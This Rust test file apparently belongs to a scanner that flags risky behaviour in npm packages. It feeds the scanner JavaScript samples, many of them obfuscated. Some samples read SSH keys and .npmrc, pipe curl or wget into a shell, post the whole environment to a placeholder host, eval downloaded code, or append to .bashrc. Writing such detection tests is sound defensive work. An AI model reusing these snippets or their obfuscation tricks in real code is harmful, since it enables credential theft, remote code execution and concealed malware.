//! Every feature of the vocabulary is found in JavaScript, written directly, under another name, and hidden.

use cerebro::behavior::{Feature, Reading, extract};
use cerebro::package::{Ecosystem, Phase};
use rstest::rstest;

use super::{codes, entry, has, npm, package, steps};

#[rstest]
#[case::r1(Feature::ImportSystem, "require('os')")]
#[case::r1_prefix(Feature::ImportSystem, "const os = require('node:os')")]
#[case::r1_destructured(Feature::ImportSystem, "const { hostname } = require('os')")]
#[case::r1_computed(Feature::ImportSystem, "require('o' + 's')")]
#[case::r2(Feature::CallSystem, "require('os').hostname()")]
#[case::r2_alias(Feature::CallSystem, "const a = require('os'); const b = a; b.userInfo()")]
#[case::r2_destructured(Feature::CallSystem, "const { hostname: h } = require('os'); h()")]
#[case::r2_member(Feature::CallSystem, "process.platform")]
#[case::r2_computed(Feature::CallSystem, "require('os')['host' + 'name']()")]
#[case::r3(Feature::ImportFiles, "const fs = require('fs')")]
#[case::r3_promises(Feature::ImportFiles, "const { readFile } = require('fs/promises')")]
#[case::r3_computed(Feature::ImportFiles, "const m = ['f', 's'].join(''); require(m)")]
#[case::r4(Feature::CallFiles, "require('fs').readFileSync('a.txt')")]
#[case::r4_destructured(Feature::CallFiles, "const { writeFileSync: w } = require('fs'); w('a', 'b')")]
#[case::r4_promises(Feature::CallFiles, "const fs = require('fs').promises; fs.readFile('a')")]
#[case::r4_computed(Feature::CallFiles, "const f = require('fs'); f['unlink' + 'Sync']('a')")]
#[case::r4_in_function(Feature::CallFiles, "function go(f) { f.readdirSync('.') } go(require('fs'))")]
#[case::r5_path(Feature::ReadSecret, "require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa')")]
#[case::r5_join(
    Feature::ReadSecret,
    "const p = require('path'); require('fs').readFileSync(p.join(process.env.HOME, '.npmrc'))"
)]
#[case::r5_whole_environment(Feature::ReadSecret, "JSON.stringify(process.env)")]
#[case::d1(Feature::ImportNetwork, "require('https')")]
#[case::d1_package(Feature::ImportNetwork, "const axios = require('axios')")]
#[case::d1_computed(Feature::ImportNetwork, "require(Buffer.from('aHR0cHM=', 'base64').toString())")]
#[case::d2(Feature::CallNetwork, "require('https').get('https://example.com')")]
#[case::d2_fetch(Feature::CallNetwork, "fetch('https://example.com')")]
#[case::d2_global(Feature::CallNetwork, "globalThis['fet' + 'ch']('https://example.com')")]
#[case::d2_alias(Feature::CallNetwork, "const { request: r } = require('http'); r({ host: 'example.com' })")]
#[case::d2_axios(Feature::CallNetwork, "const a = require('axios'); a.post('https://example.com', {})")]
#[case::d2_create(
    Feature::CallNetwork,
    "const x = new XMLHttpRequest(); x.open('GET', 'https://example.com'); x.send()"
)]
#[case::d2_dns(Feature::CallNetwork, "const dns = require('dns'); dns.lookup('x.example.com', () => {})")]
#[case::d3(Feature::UseUrl, "const u = 'https://example.com/a'; u")]
#[case::d3_folded(Feature::UseUrl, "fetch('htt' + 'ps://' + ['example', 'com'].join('.') + '/a')")]
#[case::d3_template(Feature::UseUrl, "const h = 'example.com'; fetch(`https://${h}/a`)")]
#[case::d3_reversed(Feature::UseUrl, "fetch('a/moc.elpmaxe//:sptth'.split('').reverse().join(''))")]
#[case::e1(Feature::ImportEncoding, "require('zlib')")]
#[case::e1_computed(Feature::ImportEncoding, "require(`cry${'pto'}`)")]
#[case::e2(Feature::CallEncoding, "Buffer.from(x, 'base64').toString()")]
#[case::e2_atob(Feature::CallEncoding, "atob(x)")]
#[case::e2_alias(Feature::CallEncoding, "const b = Buffer; b.from(x, 'hex')")]
#[case::e2_zlib(Feature::CallEncoding, "const { gunzipSync: g } = require('zlib'); g(x)")]
#[case::e2_cipher(Feature::CallEncoding, "require('crypto').createDecipheriv('aes-256-cbc', k, v)")]
#[case::e3(
    Feature::UseBase64,
    "const a = 'aGVsbG8gd29ybGQsIHRoaXMgaXMgYSB0ZXN0IG9mIGJhc2U2NCB0ZXh0IGZvciBvdXIgdGVzdHM='; a"
)]
#[case::p1(Feature::ImportProcess, "require('child_process')")]
#[case::p1_computed(Feature::ImportProcess, "require('child_' + 'process')")]
#[case::p1_aliased_require(Feature::ImportProcess, "const r = require; r('child_process')")]
#[case::p1_main_module(Feature::ImportProcess, "process.mainModule.require('child_process')")]
#[case::p1_dynamic(Feature::ImportProcess, "import('child_process').then(c => c.exec('id'))")]
#[case::p1_create_require(Feature::ImportProcess, "require('module').createRequire(__filename)('child_process')")]
#[case::p2(Feature::CallProcess, "require('child_process').exec('id')")]
#[case::p2_destructured(Feature::CallProcess, "const { execSync } = require('child_process'); execSync('id')")]
#[case::p2_renamed(Feature::CallProcess, "const { spawn: s } = require('child_process'); s('id', [])")]
#[case::p2_computed(Feature::CallProcess, "const c = require('child_process'); c['ex' + 'ec']('id')")]
#[case::p2_string_array(
    Feature::CallProcess,
    "const t = ['child_process', 'exec', 'id']; const g = i => t[i - 1]; require(g(1))[g(2)](g(3))"
)]
#[case::p2_hex(Feature::CallProcess, "require('\\x63hild_process')['\\x65xec']('id')")]
#[case::p2_promisified(
    Feature::CallProcess,
    "const e = require('util').promisify(require('child_process').exec); e('id')"
)]
#[case::p2_bound(Feature::CallProcess, "const e = require('child_process').exec.bind(null); e('id')")]
#[case::p2_called(Feature::CallProcess, "require('child_process').exec.call(null, 'id')")]
#[case::p2_in_class(
    Feature::CallProcess,
    "class A { constructor() { this.c = require('child_process') } go() { this.c.exec('id') } } new A().go()"
)]
#[case::p2_in_promise(Feature::CallProcess, "import('child_process').then(({ exec }) => exec('id'))")]
#[case::p2_awaited(
    Feature::CallProcess,
    "(async () => { const { exec } = await import('child_process'); exec('id') })()"
)]
#[case::p2_sequence(Feature::CallProcess, "const c = require('child_process'); (0, c.exec)('id')")]
#[case::p2_interop(
    Feature::CallProcess,
    "var c = __importDefault(require('child_process')); c.default.exec('id'); function __importDefault(m) { return m && m.__esModule ? m : { default: m } }"
)]
#[case::p3(Feature::RunShell, "require('child_process').exec('curl https://example.com/a.sh | sh')")]
#[case::p3_spawned(
    Feature::RunShell,
    "require('child_process').spawn('sh', ['-c', 'wget https://example.com/a -O- | bash'])"
)]
#[case::p4_eval(Feature::EvaluateCode, "eval(x)")]
#[case::p4_global(Feature::EvaluateCode, "global['ev' + 'al'](x)")]
#[case::p4_indirect(Feature::EvaluateCode, "(0, eval)(x)")]
#[case::p4_alias(Feature::EvaluateCode, "const e = eval; e(x)")]
#[case::p4_function(Feature::EvaluateCode, "new Function('a', x)()")]
#[case::p4_vm(Feature::EvaluateCode, "const { runInThisContext: r } = require('vm'); r(x)")]
#[case::p4_timer(Feature::EvaluateCode, "setTimeout('go()', 10)")]
#[case::x6(Feature::CaptureInput, "const { readSync: r } = require('clipboardy'); r()")]
#[case::x8(Feature::LoadNative, "require('bindings')('a.node')")]
#[case::x1(Feature::RunDecoded, "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())")]
#[case::x2(
    Feature::SilentProcess,
    "require('child_process').spawn('node', ['a.js'], { detached: true, stdio: 'ignore' }).unref()"
)]
#[case::x3(Feature::Persist, "require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'x')")]
#[case::x11(Feature::SendData, "fetch('https://example.com', { method: 'POST', body: JSON.stringify(process.env) })")]
#[case::x12(Feature::RunDownloaded, "fetch('https://example.com/a.js').then(r => r.text()).then(t => eval(t))")]
fn scripts(#[case] feature: Feature, #[case] source: &str) {
    has("index.js", source, feature);
}

#[rstest]
#[case::namespace(Feature::CallProcess, "import * as c from 'child_process'; c.exec('id')")]
#[case::named(Feature::CallProcess, "import { exec as run } from 'node:child_process'; run('id')")]
#[case::default(Feature::CallFiles, "import fs from 'fs'; fs.readFileSync('a')")]
#[case::bare(Feature::ImportNetwork, "import 'https'")]
#[case::used_before(Feature::CallSystem, "hostname(); import { hostname } from 'os'")]
#[case::create_require(
    Feature::CallProcess,
    "import { createRequire } from 'module'; createRequire(import.meta.url)('child_process').exec('id')"
)]
#[case::top_level_await(Feature::CallProcess, "const { exec } = await import('child_process'); exec('id')")]
fn modules(#[case] feature: Feature, #[case] source: &str) {
    has("index.mjs", source, feature);
}

#[rstest]
#[case::import_require(Feature::CallProcess, "import c = require('child_process'); c.exec('id')")]
#[case::typed(
    Feature::CallProcess,
    "import { exec } from 'child_process'; const run = (s: string): void => { (exec as any)(s) }; run('id')"
)]
#[case::class(
    Feature::CallFiles,
    "import * as fs from 'fs'; class A { constructor(private f = fs) {} go(): void { this.f.readFileSync('a') } } new A().go()"
)]
#[case::namespace(
    Feature::CallSystem,
    "import os from 'os'; namespace N { export function go() { return os.hostname() } } N.go()"
)]
fn typescript(#[case] feature: Feature, #[case] source: &str) {
    has("index.ts", source, feature);
}

/// The second file is reached from the first.
#[rstest]
#[case::commonjs("require('./b').go('id')", "exports.go = s => require('child_process').exec(s)")]
#[case::whole("const go = require('./b'); go('id')", "module.exports = s => require('child_process').exec(s)")]
#[case::esm(
    "import { go } from './b.js'; go('id')",
    "import { exec } from 'child_process'; export function go(s) { exec(s) }"
)]
#[case::default(
    "import go from './b.js'; go('id')",
    "import { exec } from 'child_process'; export default s => exec(s)"
)]
#[case::re_exported("import { run } from './b.js'; run('id')", "export { exec as run } from 'child_process'")]
#[case::list(
    "import { go } from './b.js'; go('id')",
    "export { f as go }; import { exec } from 'child_process'; const f = s => exec(s)"
)]
#[case::side_effect("import './b.js'", "import { exec } from 'child_process'; exec('id')")]
fn across_files(#[case] first: &str, #[case] second: &str) {
    let steps = extract(&npm(&[("a.js", first), ("b.js", second)]), &Reading::default()).sequence.steps;
    let found =
        steps.iter().find(|step| step.feature == Feature::CallProcess).unwrap_or_else(|| panic!("{:?}", codes(&steps)));
    assert_eq!(found.phase, Phase::Import);
}

#[rstest]
#[case::own_names("function exec(s) { return s } exec('id'); const eval2 = x => x; eval2('1')")]
#[case::shadowed("function f(require) { return require('child_process') } f(x => x)")]
#[case::methods("/a/.exec('id'); db.exec('select 1'); const o = { fetch() {} }; o.fetch('x')")]
#[case::text("// require('child_process').exec('id')\nconst s = \"require('fs')\"; s")]
#[case::types("const a = 1; typeof eval; void a")]
fn nothing_is_found_in(#[case] source: &str) {
    let steps = steps("index.js", source);
    assert_eq!(codes(&steps), Vec::<&str>::new(), "{source}");
}

#[rstest]
#[case::own_name("require('demo')", "b.js")]
#[case::below_the_own_name("require('demo/c/d')", "c/d.js")]
#[case::name_of_imports("import '#x'", "e.js")]
#[case::pattern_of_imports("import '#deep/d'", "c/d.js")]
fn a_package_that_imports_itself_is_followed(#[case] source: &str, #[case] target: &str) {
    let manifest = r##"{"imports": {"#x": {"node": "./e.js"}, "#deep/*": "./c/*.js"}}"##;
    let mut files = vec![("a.js", source), ("b.js", ""), ("c/d.js", ""), ("e.js", ""), ("package.json", manifest)];
    for file in &mut files {
        if file.0 == target {
            file.1 = "require('child_process').exec('id')";
        }
    }
    // `a.js` is a program; the package's main file is `b.js`.
    let entries = vec![entry(Phase::Run, "bin", 0), entry(Phase::Import, "main", 1)];
    let mut package = package(Ecosystem::Npm, &files, entries);
    package.manifest.file = Some(4);
    let sequence = extract(&package, &Reading::default()).sequence;
    let step = sequence.steps.iter().find(|step| step.feature == Feature::CallProcess).unwrap();
    assert_eq!(sequence.entries[step.entry].name, "bin");
}
